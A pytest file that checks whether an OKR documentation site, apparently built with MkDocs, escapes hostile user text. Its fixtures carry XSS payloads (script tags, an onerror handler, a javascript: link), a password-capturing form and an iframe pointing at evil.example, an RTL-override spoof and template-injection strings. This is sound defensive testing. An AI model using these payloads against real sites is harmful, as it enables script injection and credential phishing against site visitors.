"""A plan in which every text tries something: it shows as typed, and does nothing."""

import json
from pathlib import Path

import pytest

from tests.site import COMPANY, CONFIG, CYCLE, build, read, write

HOSTILE = """<script>alert(1)</script><img src=x onerror=alert(2)> </title></h1> \u202emoc.evil"""
HOSTILE_PROSE = """
# <script>alert(3)</script>

<form action="https://evil.example" style="position:fixed"><input name=password></form>

<iframe src="https://evil.example"></iframe> [here](javascript:alert(4)) ![x](https://evil.example/x.png)

{{ config }} {% include "x" %}
"""


HOSTILE_PLAN = {
    "okrs/company.md": COMPANY.replace("Acme", "TYPED"),
    "okrs/teams/growth.md": "---\nname: TYPED\nlead: sam\n---\n",
    "okrs/people/sam.md": "---\nname: TYPED\npriorities: {2026-Q4: [TYPED]}\n---\n",
    "okrs/2026-Q4/cycle.md": CYCLE.replace("Q4 2026", "TYPED"),
    "okrs/2026-Q4/company/top.md": "---\nobjective: TYPED\n---\n",
    "okrs/2026-Q4/growth/trials.md": """\
        ---
        objective: TYPED
        supports: {company/top: TYPED}
        note: TYPED
        key_results:
          one:
            title: TYPED
            owner: sam
            from: 1
            to: 2
            unit: TYPED
            source: javascript:alert(5)
            amended: [{on: 2026-11-02, was: {to: 3}, why: TYPED}]
          two: {title: TYPED, owner: sam, done_when: TYPED, source: TYPED}
        ---
        """,
    "okrs/2026-Q4/growth/check-ins/2026-11-13.md": """\
        ---
        by: sam
        updates: {trials: {one: {value: 1.5, note: TYPED}}}
        ---
        """,
    "okrs/2026-Q4/growth/retrospective.md": "---\nby: sam\n---\n",
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site of a plan in which every text tries something."""
    typed = json.dumps(HOSTILE, ensure_ascii=True)
    files = {path: text.replace("TYPED", typed) for path, text in HOSTILE_PLAN.items()}
    folder = write(tmp_path_factory.mktemp("hostile"), {"mkdocs.yml": CONFIG} | files)
    for file in (folder / "okrs").rglob("*.md"):
        file.write_text(f"{file.read_text()}{HOSTILE_PROSE}")
    done = build(folder, folder / "site")
    assert done.returncode == 0, done.stderr
    return folder / "site"


def test_nothing_that_people_typed_becomes_markup(hostile: Path) -> None:
    for file in hostile.rglob("*.html"):
        ours, page = read(file, within="okr"), read(file)
        tags = {tag for tag, _ in ours.elements}
        assert (
            tags & set("script style form input iframe img object embed base meta".split()) == set()
        )
        handlers = [name for _, one in page.elements for name in one if name.startswith("on")]
        assert handlers == [], file
        assert [one for _, one in ours.elements if "style" in one] == []
        assert [one for one in page.all("img") if one.get("src") == "x"] == []


def test_links_lead_to_web_pages_only(hostile: Path) -> None:
    for file in hostile.rglob("*.html"):
        hrefs = [one.get("href", "") for one in read(file).all("a")]
        assert [one for one in hrefs if ":" in one.split("/")[0] and one[:4] != "http"] == [], file


def test_what_people_typed_shows_as_typed(hostile: Path) -> None:
    page = read(hostile / "2026-Q4/growth/trials/index.html", within="okr")
    assert "<script>alert(1)</script><img src=x onerror=alert(2)>" in page.text
    assert '<form action="https://evil.example" style="position:fixed">' in page.text
    assert '{{ config }} {% include "x" %}' in page.text


def test_the_search_index_holds_no_markup_of_theirs(hostile: Path) -> None:
    index = json.loads((hostile / "search/search_index.json").read_text())
    texts = [one[name] for one in index["docs"] for name in ("title", "text")]
    assert [one for one in texts if "<script" in one or "<img" in one] == []
